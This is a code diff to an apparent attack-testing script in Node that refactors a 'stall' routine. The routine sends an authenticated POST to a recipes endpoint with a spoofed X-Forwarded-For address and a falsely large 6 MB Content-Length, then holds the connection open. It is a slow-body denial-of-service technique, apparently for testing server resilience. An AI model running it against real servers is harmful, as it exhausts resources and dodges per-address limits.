@@ -5,6 +5,7 @@
 import { connect } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
 import { makeOddRequest } from "../attacks/odd-requests";
+import { beginPost } from "../attacks/stalled-post";
 
 const [, , url = "", cookie = "", victim = ""] = process.argv;
 const { hostname, port } = new URL(url);
@@ -36,19 +37,7 @@ const oddOne = () =>
 
 /** Most of a body of six megabytes, and then nothing for a while. */
 async function stall() {
-  const socket = connect({ host: hostname, port: Number(port) });
-  socket.on("error", () => {});
-  socket.on("data", () => {});
-  const lines = [
-    "POST /custom-recipes HTTP/1.1",
-    `Host: ${hostname}:${port}`,
-    "Sec-Fetch-Site: same-origin",
-    "Content-Type: application/x-www-form-urlencoded",
-    "Content-Length: 6000000",
-    `X-Forwarded-For: ${somewhere()}`,
-    `Cookie: ${cookie}`,
-  ];
-  socket.write(`${lines.join("\r\n")}\r\n\r\nintent=paste&pasted=`);
+  const socket = beginPost(url, { cookie, address: somewhere(), bytes: 6_000_000 });
   socket.write(Buffer.alloc(5_000_000, "a"));
   await pause(15_000);
   socket.destroy();
